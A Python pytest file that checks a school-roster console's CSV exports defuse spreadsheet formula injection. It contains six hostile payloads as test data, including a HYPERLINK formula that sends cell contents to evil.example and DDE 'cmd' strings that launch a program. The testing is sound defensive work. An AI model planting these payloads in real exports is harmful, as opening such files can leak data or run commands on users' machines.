"""Every CSV the console writes is safe to open in a spreadsheet: a roster whose names and
addresses begin with = + - @ tab or carriage return reaches the ETS paper-order list and the print
manifest as text (a leading ``'``), never as a formula; read back with the csv module."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from sqlalchemy import update
from sqlmodel import Session, col, select

from services.channels import paper_order, print_batch
from services.channels.print_batch import Handling, PrintOptions
from services.core.csv_export import FORMULA_STARTS
from services.plan import coverage
from services.roster.tables import Guardian, School, Student
from tests.channel_world import World, world

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


@pytest.fixture
def demo(tmp_path_factory: pytest.TempPathFactory, tmp_path: Path) -> World:
    w = world(tmp_path_factory.getbasetemp(), tmp_path)
    with Session(w.engine) as session:
        students = session.exec(select(Student).order_by(col(Student.id))).all()
        for n, student in enumerate(students):
            student.last_name = HOSTILE[n % len(HOSTILE)]
            student.first_name = HOSTILE[(n + 1) % len(HOSTILE)]
            session.add(student)
        guardians = session.exec(select(Guardian.id).order_by(col(Guardian.id))).all()
        for n, gid in enumerate(guardians):
            session.execute(
                update(Guardian)
                .where(col(Guardian.id) == gid)
                .values(
                    last_name=HOSTILE[n % len(HOSTILE)],
                    first_name=HOSTILE[(n + 2) % len(HOSTILE)],
                    address_line1=HOSTILE[(n + 3) % len(HOSTILE)],
                )
            )
        for school in session.exec(select(School)).all():
            school.name = HOSTILE[0]
            session.add(school)
        session.commit()
    return w


def read_back(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def assert_neutralised(rows: list[list[str]], columns: tuple[str, ...]) -> None:
    """No cell starts like a formula; each hostile column holds its value behind a ``'``, every
    one of the six formula starts among them."""
    header, *body = rows
    assert body
    assert not [cell for row in body for cell in row if cell.startswith(FORMULA_STARTS)]
    for column in columns:
        values = [row[header.index(column)] for row in body]
        assert all(v.startswith("'") for v in values), (column, values)
        assert {v[1] for v in values} == {h[0] for h in HOSTILE}, column


def test_ets_paper_order_list_neutralises_formulas(demo: World) -> None:
    w = demo
    operator = w.operator()
    batch = paper_order.create(w.engine, operator, name="ETS", who=coverage.Who.ALL)
    path = w.folder / "orders" / "ets.csv"
    assert paper_order.export_csv(w.engine, operator, batch.id, path) > 0
    rows = read_back(path)
    assert_neutralised(rows, ("last_name", "first_name"))
    assert {row[rows[0].index("school")] for row in rows[1:]} == {"'" + HOSTILE[0]}


def test_print_manifest_neutralises_formulas(demo: World) -> None:
    w = demo
    operator = w.operator()
    batch = print_batch.create(
        w.engine,
        operator,
        name="Hand out",
        who=coverage.Who.ALL,
        options=PrintOptions(handling=Handling.HAND_OUT),
    )
    result = print_batch.run(w.engine, operator, batch.id, w.folder / "print", w.store)
    assert result.printed and result.manifest is not None
    assert_neutralised(read_back(result.manifest), ("guardian",))
